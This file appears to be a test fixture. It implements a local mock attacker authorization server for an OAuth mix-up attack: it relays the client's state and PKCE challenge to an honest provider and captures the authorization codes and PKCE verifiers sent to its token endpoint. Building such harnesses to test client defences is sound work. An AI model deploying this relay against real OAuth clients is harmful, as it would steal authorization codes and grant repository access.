/**
 * An authorization server run by an attacker who is one of the connect pages' configured
 * providers (RFC 9700 § 4.4.1, mix-up): its authorization endpoint does not ask the user anything
 * but relays the browser, with the connect pages' own `state` and PKCE challenge, to an honest
 * provider's authorization endpoint under the connect pages' client id there; its token endpoint
 * keeps whatever it is sent (an honest provider's code, the PKCE verifier).
 */
import { close, listen } from "./authorization-servers.js";

export interface AttackerServer {
  issuer: string;
  /** The form bodies its token endpoint received. */
  tokenRequests: URLSearchParams[];
  close(): Promise<void>;
}

/**
 * @param honest the honest provider's authorization endpoint and the connect pages' client id there.
 * @param redirectTo the `redirect_uri` sent to the honest provider, from the one the connect pages
 *   sent to the attacker: kept, or rewritten to the honest provider's.
 */
export async function startAttackerServer(
  honest: { authorizationEndpoint: string; clientId: string },
  redirectTo: (redirectUri: string) => string,
): Promise<AttackerServer> {
  const web = await listen("127.0.0.1");
  const issuer = web.origin;
  const tokenRequests: URLSearchParams[] = [];
  web.handle((req, res) => {
    const url = new URL(req.url ?? "/", issuer);
    if (url.pathname === "/.well-known/openid-configuration") {
      res.writeHead(200, { "content-type": "application/json" }).end(
        JSON.stringify({
          issuer,
          authorization_endpoint: `${issuer}/authorize`,
          token_endpoint: `${issuer}/token`,
          response_types_supported: ["code"],
          code_challenge_methods_supported: ["S256"],
        }),
      );
    } else if (url.pathname === "/authorize") {
      const relay = new URL(honest.authorizationEndpoint);
      for (const name of ["response_type", "state", "code_challenge", "code_challenge_method"]) {
        relay.searchParams.set(name, url.searchParams.get(name) ?? "");
      }
      relay.searchParams.set("client_id", honest.clientId);
      relay.searchParams.set("redirect_uri", redirectTo(url.searchParams.get("redirect_uri") ?? ""));
      relay.searchParams.set("scope", "openid repo");
      res.writeHead(302, { location: relay.href }).end();
    } else if (url.pathname === "/token" && req.method === "POST") {
      const chunks: Buffer[] = [];
      req.on("data", (chunk: Buffer) => chunks.push(chunk));
      req.on("end", () => {
        tokenRequests.push(new URLSearchParams(Buffer.concat(chunks).toString("utf8")));
        res
          .writeHead(200, { "content-type": "application/json" })
          .end(JSON.stringify({ access_token: "attacker-token", token_type: "Bearer", expires_in: 3600 }));
      });
    } else res.writeHead(404).end();
  });
  return { issuer, tokenRequests, close: () => close(web.server) };
}
